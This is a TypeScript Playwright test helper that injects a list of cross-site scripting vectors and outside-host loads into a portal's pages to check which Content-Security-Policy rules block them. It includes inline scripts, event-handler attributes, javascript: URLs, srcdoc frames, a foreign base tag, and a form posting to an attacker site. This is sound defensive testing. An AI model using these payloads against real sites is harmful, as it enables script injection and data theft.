/**
 * Markup as an attacker would leave it in a page that forgot to escape: each piece runs a script of theirs or calls their
 * site. The page is really ours, with the headers of the server; only its text is changed on the way.
 */
import type { Page } from 'playwright-core'
import { between, type Between } from './between.ts'

/** `ran` is the attacker's, and in every page: a list of what ran. `site` is theirs. */
function attacks(site: string): string {
  return `
    <script>ran.push('script')</script>
    <script src="${site}/script.js"></script>
    <script type="module">ran.push('module')</script>
    <img src="/nowhere.png" onerror="ran.push('onerror')">
    <img src="${site}/pixel.png">
    <svg onload="ran.push('onload')"></svg>
    <input autofocus onfocus="ran.push('onfocus')">
    <details open ontoggle="ran.push('ontoggle')"></details>
    <a id="attack" href="javascript:ran.push('link')">here</a>
    <iframe src="javascript:parent.ran.push('frame')"></iframe>
    <iframe srcdoc="<script>parent.ran.push('srcdoc')</script>"></iframe>
    <iframe src="${site}/frame"></iframe>
    <object data="${site}/object"></object>
    <embed src="${site}/embed">
    <link rel="stylesheet" href="${site}/style.css">
    <style>body { background: url(${site}/background.png) }</style>
    <p style="background: url(${site}/attribute.png)">x</p>
    <video src="${site}/video" poster="${site}/poster.png"></video>
    <form id="theft" method="post" action="${site}/form"><button>x</button></form>`
}

/** Of all rules, those that `attacks` and a foreign <base> break. */
export const brokenRules: readonly string[] = [
  ...['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'img-src', 'media-src'],
  ...['frame-src', 'object-src', 'base-uri', 'form-action'],
]

/** The portal behind somebody who writes the attacks into its pages. */
export function betrayed(portal: string, site: string, without: readonly string[] = []): Promise<Between> {
  return between(portal, without, (html) =>
    html.replace('<head>', `<head><base href="${site}/">`).replace(/<main[^>]*>/, (main) => main + attacks(site)),
  )
}

/** Follows the attacker's link and sends their form; gives what of their script ran. */
export async function fallFor(page: Page): Promise<readonly string[]> {
  await page.locator('#attack').evaluate((link) => {
    if (link instanceof HTMLElement) link.click()
  })
  const ran = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => setTimeout(() => resolve((globalThis as unknown as { ran: string[] }).ran))),
  )
  await page.locator('#theft').evaluate((form) => {
    if (form instanceof HTMLFormElement) form.submit()
  })
  return ran
}
